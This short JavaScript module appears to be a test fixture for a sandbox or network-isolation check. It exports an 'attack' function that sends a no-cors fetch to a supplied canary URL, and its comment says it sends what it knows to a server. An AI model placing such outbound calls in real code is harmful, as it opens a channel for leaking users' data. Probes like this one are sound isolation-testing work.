// Sends what it knows to a server.
exports.attack = async ({ canary }) => (await fetch(`${canary}/fetch`, { mode: 'no-cors' })).type;
